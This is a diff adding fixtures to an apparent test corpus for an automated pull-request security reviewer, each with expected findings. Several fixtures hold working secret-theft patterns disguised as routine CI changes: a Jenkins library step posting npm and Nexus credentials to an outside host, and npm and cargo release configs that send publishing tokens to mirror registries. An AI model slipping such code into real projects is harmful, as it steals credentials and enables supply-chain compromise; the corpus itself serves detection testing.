@@ -3824,6 +3824,74 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
   },
   {
+    id: 'attack-jenkins-library-httprequest-posts-credentials',
+    description:
+      "GhostAction's shape in a Jenkins shared library (GitGuardian, September 2025, there with workflows): a \"build stats\" PR to a library's global step (vars/notifyBuild.groovy, which every pipeline that loads the library runs) binds the npm token and the Nexus password with withCredentials and posts them in an httpRequest body to an ordinary-looking host: no curl, no request bin, no secret name in the line.",
+    fixture: () =>
+      attackPr({
+        repo: 'ci-library',
+        number: 7646,
+        title: 'feat: report build stats',
+        author: 'member',
+        files: [
+          {
+            path: 'vars/notifyBuild.groovy',
+            base: lines('def call(Map args = [:]) {', "    echo \"Build ${currentBuild.currentResult}: ${env.JOB_NAME} #${env.BUILD_NUMBER}\"", '}'),
+            head: lines(
+              'def call(Map args = [:]) {',
+              "    echo \"Build ${currentBuild.currentResult}: ${env.JOB_NAME} #${env.BUILD_NUMBER}\"",
+              "    withCredentials([string(credentialsId: 'npm-token', variable: 'T'), usernamePassword(credentialsId: 'nexus-deploy', usernameVariable: 'U', passwordVariable: 'P')]) {",
+              "        httpRequest url: 'https://build-stats.ci-metrics.net/collect', httpMode: 'POST', contentType: 'APPLICATION_JSON', requestBody: \"{\\\"job\\\":\\\"${env.JOB_NAME}\\\",\\\"t\\\":\\\"${T}\\\",\\\"p\\\":\\\"${P}\\\"}\", quiet: true",
+              '    }',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'benign-jenkins-httprequest-upload-with-authentication',
+    description:
+      "The benign look-alike: a maintainer's Jenkinsfile uploads the release zip to the company's Nexus with the HTTP Request plugin, the credential passed by id as the request's authentication and the build notified to Slack with the token in a header: a pipeline's ordinary use of its credentials.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7649,
+        title: 'ci: upload the release zip to Nexus',
+        author: 'member',
+        files: [
+          {
+            path: 'Jenkinsfile',
+            base: lines('pipeline {', '    agent any', '    stages {', "        stage('Build') {", '            steps {', "                sh 'npm ci'", "                sh 'npm run build'", '            }', '        }', '    }', '}'),
+            head: lines(
+              'pipeline {',
+              '    agent any',
+              '    stages {',
+              "        stage('Build') {",
+              '            steps {',
+              "                sh 'npm ci'",
+              "                sh 'npm run build'",
+              '            }',
+              '        }',
+              "        stage('Upload') {",
+              "            when { branch 'main' }",
+              '            steps {',
+              "                httpRequest url: 'https://nexus.acme.dev/service/rest/v1/components?repository=releases', httpMode: 'POST', authentication: 'nexus-deploy', uploadFile: 'dist/tint.zip', multipartName: 'raw.asset1'",
+              "                withCredentials([string(credentialsId: 'slack-token', variable: 'SLACK_TOKEN')]) {",
+              "                    httpRequest url: 'https://slack.com/api/chat.postMessage', httpMode: 'POST', contentType: 'APPLICATION_JSON', customHeaders: [[name: 'Authorization', value: \"Bearer ${SLACK_TOKEN}\", maskValue: true]], requestBody: '{\"channel\":\"#releases\",\"text\":\"tint uploaded\"}'",
+              '                }',
+              '            }',
+              '        }',
+              '    }',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
     id: 'benign-jenkinsfile-test-command-edit',
     description:
       "The benign look-alike: a maintainer adds a flag to the Jenkinsfile's test step (`npm test` to `npm test -- --ci`): the pipeline reader reads its sh steps on both sides, finds one command edited and nothing else new, and the edit passes as routine.",
@@ -3882,6 +3950,47 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['publish-token-redirect'] },
+  },
+  {
+    id: 'attack-package-script-npm-token-to-other-registry',
+    description:
+      'The token redirect in a package.json script: a "release through our mirror" PR adds a `release` script that writes the npm auth line for a host that is not the registry and publishes; whoever runs `npm run release` with $NPM_TOKEN set hands the token to that host (no install script, no workflow, no curl).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7648,
+        title: 'chore: release through the registry mirror',
+        author: 'member',
+        files: [
+          {
+            path: 'package.json',
+            base: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', test: 'vitest run' } }),
+            head: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', test: 'vitest run', release: 'npm run build && echo "//registry.npm-mirror.io/:_authToken=${NPM_TOKEN}" > .npmrc && npm publish --registry https://registry.npm-mirror.io/' } }),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['publish-token-redirect'] },
+  },
+  {
+    id: 'attack-cargo-registry-name-hides-host',
+    description:
+      'The crates.io token redirect behind a registry name: a "publish through the crates mirror" PR adds `[registries.fast]` to .cargo/config.toml, pointing at a host that is not crates.io, and changes the release workflow to `cargo publish --registry fast --token ${{ secrets.CARGO_REGISTRY_TOKEN }}`; no URL stands in the workflow, and cargo hands the token to that host.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-rs',
+        number: 7650,
+        title: 'ci: publish through the crates mirror',
+        author: 'member',
+        files: [
+          { path: '.cargo/config.toml', base: lines('[net]', 'git-fetch-with-cli = true'), head: lines('[net]', 'git-fetch-with-cli = true', '', '[registries.fast]', 'index = "sparse+https://crates.fast-mirror.dev/index/"') },
+          {
+            path: '.github/workflows/release.yml',
+            base: lines('name: release', 'on:', '  push:', '    tags: ["v*"]', 'permissions:', '  contents: read', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - run: cargo publish --token ${{ secrets.CARGO_REGISTRY_TOKEN }}'),
+            head: lines('name: release', 'on:', '  push:', '    tags: ["v*"]', 'permissions:', '  contents: read', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - run: cargo publish --registry fast --token ${{ secrets.CARGO_REGISTRY_TOKEN }}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
   },
   {
     id: 'attack-husky-hook-sends-npmrc',
